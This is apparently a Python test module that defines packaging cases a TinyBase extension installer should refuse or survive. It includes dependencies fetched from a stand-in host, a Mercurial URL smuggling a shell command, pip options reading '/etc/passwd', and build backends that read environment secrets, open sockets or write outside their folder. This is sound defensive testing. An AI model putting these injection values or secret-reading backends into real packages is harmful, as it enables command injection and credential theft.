"""Packages that announce nothing, fit nothing, or come out of a build that goes wrong."""

from __future__ import annotations

from .case import (
    HELLO,
    WHEEL,
    Case,
    Files,
    Package,
    Place,
    Wheel,
    failed,
    flat,
    installed,
    refused,
    repository,
)

_GROUP = "[tinybase.extensions]\n"
_DEPENDENCIES = "[extension.dependencies]\n"
_CODE = {
    "{package}/plugin.py": ("class Plugin:\n    pass\nasync def wait():\n    pass\nnone = None\n")
}

BACKEND = """
import os, sys, zipfile

def build_wheel(folder, settings=None, metadata=None):
    {code}
    name = {name!r}
    info = name + "-1.0.0.dist-info/"
    members = {{
        name + "/__init__.py": "",
        info + "METADATA": "Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0.0\\n",
        info + "WHEEL": {wheel!r},
        info + "entry_points.txt": "[tinybase.extensions]\\n{name} = {name}\\n",
        info + "RECORD": "",
    }}
    with zipfile.ZipFile(os.path.join(folder, name + "-1.0.0-py3-none-any.whl"), "w") as archive:
        for member, content in members.items():
            archive.writestr(member, content)
    return name + "-1.0.0-py3-none-any.whl"
"""


def project(name: str, *, system: str = "", more: str = "", files: Files | None = None) -> Package:
    """Return a repository with a build system of its own."""
    build = (
        system or '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]'
    )
    text = f'{build}\n[project]\nname = "{name}"\nversion = "1.0.0"\n{more}\n'
    return repository({"pyproject.toml": text, **(files or {})})


def building(code: str, name: str) -> Package:
    """Return a project whose backend runs some code before it builds what it should."""
    backend = BACKEND.format(code=code, name=name, wheel=WHEEL)
    return project(name, files={"backend.py": backend})


def _entry_point(name: str, wrong: str, told: str, value: str) -> Case:
    return failed(name, wrong, told, Wheel(_CODE, entry_points=_GROUP + value))


def _needing(requirement: str) -> Wheel:
    return Wheel(metadata=f"Requires-Dist: {requirement}\n")


def _named(headers: str) -> Wheel:
    return Wheel(headers="Metadata-Version: 2.1\n" + headers)


def _cyclic(place: Place, name: str) -> str:
    Wheel(metadata=f"Requires-Dist: {name}\n").write(place.index, "other-half")
    return _needing("other-half")(place, name)


def _needing_brought(version: str) -> Package:
    """Return an extension that needs another version of what ``resident`` needs."""

    def make(place: Place, name: str) -> str:
        return flat(f'{_DEPENDENCIES}shared-library = "{version}"')(place, name)

    return make


def _downgrading(place: Place, name: str) -> str:
    Wheel(metadata="Requires-Dist: tinybase<0.1\n", entry_points="").write(
        place.index, "takes-back"
    )
    return flat(f'{_DEPENDENCIES}takes-back = "*"')(place, name)


def _with_code_in_a_dependency(place: Place, name: str) -> str:
    """Return a wheel that needs a source tree; pip would run its setup.py just to read it."""
    source = place.folder / "runs-code"
    source.mkdir()
    (source / "setup.py").write_text("import os; os.abort()")
    return Wheel(metadata=f"Requires-Dist: runs-code @ {source.as_uri()}\n")(place, name)


def _backend(name: str, wrong: str, told: str, code: str) -> Case:
    return refused(name, wrong, told, building(code, name.replace("-", "_")))


PACKAGINGS = (
    refused("no-entry-point", "no entry point", "declares no entry point", Wheel(entry_points="")),
    refused(
        "no-name-in-it",
        "no entry point with a value",
        "import name",
        Wheel(entry_points=_GROUP + "x =\n"),
    ),
    refused(
        "no-entry-points",
        "entry points that cannot be read",
        "cannot be read as a wheel",
        Wheel(entry_points="[tinybase.extensions\nx"),
    ),
    _entry_point(
        "no-module", "an entry point to no module", "No module named", "x = {package}.absent"
    ),
    _entry_point(
        "no-attribute", "an entry point to no attribute", "has no attribute", "x = {package}:absent"
    ),
    installed(
        "no-object",
        "an entry point to None",
        Wheel(_CODE, entry_points=_GROUP + "x = {package}.plugin:none"),
    ),
    _entry_point(
        "two-packages",
        "entry points in two packages",
        "in several packages",
        "x = {package}\ny = other_package\n",
    ),
    installed(
        "two",
        "two entry points in its package",
        Wheel(_CODE, entry_points=_GROUP + "x = {package}\ny = {package}.plugin\n"),
    ),
    installed(
        "a-class",
        "an entry point to a class",
        Wheel(_CODE, entry_points=_GROUP + "x = {package}.plugin:Plugin"),
    ),
    installed(
        "an-async",
        "an entry point to an async function",
        Wheel(_CODE, entry_points=_GROUP + "x = {package}.plugin:wait"),
    ),
    refused("resident", "the name of what is installed", "already installed", flat()),
    refused(
        "other-name",
        "the package of what is installed, under another name",
        "resident also provides the package resident",
        Wheel({"resident/__init__.py": ""}, entry_points=_GROUP + "x = resident"),
    ),
    refused(
        "over-flask",
        "another Flask",
        "no extension may change",
        flat(_DEPENDENCIES + 'Flask = "<3"'),
    ),
    refused(
        "over-shared",
        "another version of what another extension needs",
        "shared-library",
        _needing_brought(">=2"),
    ),
    refused(
        "over-host",
        "a dependency that needs another TinyBase",
        "no extension may change",
        _downgrading,
    ),
    refused("older-host", "an older TinyBase", "no extension may change", _needing("tinybase<0.1")),
    refused("newer-host", "a newer TinyBase", "no extension may change", _needing("tinybase>=99")),
    refused(
        "absent",
        "a dependency that does not exist",
        "index has no",
        flat(_DEPENDENCIES + 'tb-absent = "*"'),
    ),
    installed("cyclic", "an extension that it needs and that needs it", _cyclic),
    refused("other-python", "another Python", "Python", Wheel(metadata="Requires-Python: >=99\n")),
    refused(
        "other-machine",
        "a wheel for another machine",
        "made for another machine",
        Wheel(file="{package}-1.0.0-cp311-cp311-win_arm64.whl"),
    ),
    refused("no-metadata", "no METADATA", "no name or no version", _named("")),
    refused("no-version", "no version", "no name or no version", _named("Name: x\n")),
    refused(
        "bad-version",
        "a version nobody knows",
        "version",
        _named("Name: bad-version\nVersion: new\n"),
    ),
    refused("bad-name", "a name that is a path", "name", _named("Name: /tmp/x\nVersion: 1.0.0\n")),
    refused(
        "wrong-name", "another name than its file", "name", _named("Name: x\nVersion: 1.0.0\n")
    ),
    refused(
        "wrong-version",
        "another version than its file",
        "version",
        _named("Name: wrong-version\nVersion: 2\n"),
    ),
    refused(
        "bad-needs", "a dependency nobody can read", "cannot be read as a wheel", _needing("--pre")
    ),
    refused(
        "needs-url",
        "a dependency at an address",
        "Publish it as a package",
        _needing("x @ https://evil.example/x.whl"),
    ),
    refused(
        "needs-code",
        "a dependency that runs code to be read",
        "Publish it as a package",
        _with_code_in_a_dependency,
    ),
    refused(
        "needs-vcs",
        "an option of Mercurial in a dependency",
        "Publish it as a package",
        _needing("x @ hg+https://evil.example/x@--config=alias.pull=!touch"),
    ),
    refused(
        "project-url",
        "a project that needs an address",
        "Publish it as a package",
        project("project-url", more='dependencies = ["x @ git+https://evil.example/x"]'),
    ),
    refused(
        "project-option",
        "an option of pip in a project",
        "no dependency that pip knows",
        project("project-option", more='dependencies = ["--index-url=https://evil.example"]'),
    ),
    refused(
        "project-file",
        "a file of dependencies in a project",
        "no dependency that pip knows",
        project("project-file", more='dependencies = ["-r /etc/passwd"]'),
    ),
    refused(
        "project-path", "a path as the name of a project", "name", project("/tmp/tinybase-evil")
    ),
    refused(
        "project-types", "wrong types", "wrong type", project("project-types", more="authors = 1")
    ),
    refused("project-toml", "no TOML", "not valid TOML", repository({"pyproject.toml": "[x"})),
    refused(
        "project-bytes",
        "no text",
        "not valid TOML",
        repository({"pyproject.toml": b"\xff\xfe", "extension.toml": "", "__init__.py": HELLO}),
    ),
    refused("no-backend", "a backend that is not there", "backend", project("no_backend")),
    refused(
        "backend-up",
        "a backend outside of the project",
        "inside source tree",
        project(
            "backend-up",
            system='[build-system]\nrequires = []\nbuild-backend = "x"\nbackend-path = ["../.."]',
        ),
    ),
    refused(
        "no-requirement",
        "a backend from nowhere",
        "the package index has no tb-absent",
        project(
            "no-requirement", system='[build-system]\nrequires = ["tb-absent"]\nbuild-backend = "x"'
        ),
    ),
    _backend("backend-exits", "a backend that ends its process", "cannot be built", "os._exit(3)"),
    _backend(
        "backend-raises",
        "a backend that raises",
        "RuntimeError: boom",
        "raise RuntimeError('boom')",
    ),
    _backend(
        "backend-hangs", "a backend that hangs", "longer than", "import time; time.sleep(600)"
    ),
    _backend(
        "backend-dials",
        "a backend that opens the network",
        "ConnectionRefusedError",
        "import socket; socket.create_connection(('127.0.0.1', 9), timeout=5)",
    ),
    _backend(
        "backend-lies",
        "a wheel that is not there",
        "cannot be built",
        "return 'absent-1-py3-none-any.whl'",
    ),
    _backend(
        "backend-peeks",
        "a backend that reads the environment",
        "it sees 0 secrets",
        "raise RuntimeError('it sees %d secrets' % repr(os.environ).count('CANARY'))",
    ),
    installed(
        "backend-litters",
        "a backend that writes around itself",
        building("open('here', 'w').close(); open('../above', 'w').close()", "backend_litters"),
    ),
)
